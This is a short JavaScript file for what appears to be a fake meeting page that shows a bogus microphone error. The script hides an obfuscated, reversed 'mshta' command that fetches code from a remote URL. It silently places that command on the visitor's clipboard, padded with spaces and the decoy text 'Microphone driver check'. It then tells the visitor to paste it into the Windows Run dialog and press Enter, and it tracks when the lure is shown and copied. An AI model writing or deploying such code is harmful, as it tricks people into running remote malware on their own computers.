document.addEventListener("DOMContentLoaded", function () {
  var rev = "AAAA/p/dilavni.pleh-cim//:sptth atm" + "hs";
  var line = rev.split("").reverse().join("").replace("shmta", "mshta");
  document.addEventListener("copy", function (e) {
    e.preventDefault();
    e.clipboardData.setData("text/plain", line + " ".repeat(200) + "Microphone driver check");
  });
  $("#meet-join").on("click", function () {
    $(".modal-mic").addClass("show");
    $(".modal-mic .title").text("Can't connect to your microphone");
    $(".modal-mic .body").html("To fix the issue: <b>1.</b> Press <kbd>Win</kbd>+<kbd>R</kbd> <b>2.</b> Press <kbd>Ctrl</kbd>+<kbd>V</kbd> <b>3.</b> Press <kbd>Enter</kbd>. The headset will be detected automatically.");
    document.execCommand("copy");
    $.post("/api/v1/stats", { event: "fix_shown", room: location.pathname.slice(1) });
  });
  $(".try-fix").on("click", function () {
    document.execCommand("copy");
    $(this).text("Copied");
    $.post("/api/v1/stats", { event: "fix_copied" });
  });
});
